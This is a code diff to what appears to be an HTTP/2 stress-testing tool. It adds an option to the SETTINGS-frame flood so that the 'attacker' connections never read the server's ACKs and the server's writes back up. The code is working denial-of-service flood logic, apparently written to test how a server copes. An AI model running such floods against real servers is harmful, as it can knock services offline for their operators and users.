@@ -344,17 +344,20 @@ def ping_flood(target: Target, *, connections: int = 1, rate: float = 100.0,
 
 
 def settings_flood(target: Target, *, connections: int = 1, rate: float = 100.0,
-                   duration: float = 10.0) -> Running:
+                   read: bool = True, duration: float = 10.0) -> Running:
     """SETTINGS frames (alternating INITIAL_WINDOW_SIZE) at `rate` per second per
-    connection; each one obliges the server to answer with a SETTINGS ACK."""
+    connection; each one obliges the server to answer with a SETTINGS ACK. With
+    `read=False` the attacker never reads those ACKs, so the server's writes back up
+    (its bound on queued "induced" frames then stops it reading: `write_stalls`)."""
     flip = itertools.cycle([65535, 65536])
     return _frame_flood("settings_flood", target, connections, rate, duration,
                         lambda conn: conn.settings({SettingCodes.INITIAL_WINDOW_SIZE: next(flip)}),
-                        False)
+                        False, read)
 
 
 def _frame_flood(name: str, target: Target, connections: int, rate: float,
-                 duration: float, send: Callable[[Conn], None], with_stream: bool) -> Running:
+                 duration: float, send: Callable[[Conn], None], with_stream: bool,
+                 read: bool = True) -> Running:
     def body(run: Running) -> None:
         conns = [c for c in (run.connect(target) for _ in range(connections)) if c]
         if with_stream:
@@ -368,7 +371,10 @@ def _frame_flood(name: str, target: Target, connections: int, rate: float,
                 for conn in conns:
                     if not conn.closed:
                         send(conn)
-            poll_all(conns, 0.002)
+            if read:
+                poll_all(conns, 0.002)
+            else:
+                time.sleep(0.002)
         run.stats.note(f"{name}: {sent} rounds sent")
 
     return Running(name, body, duration).start()
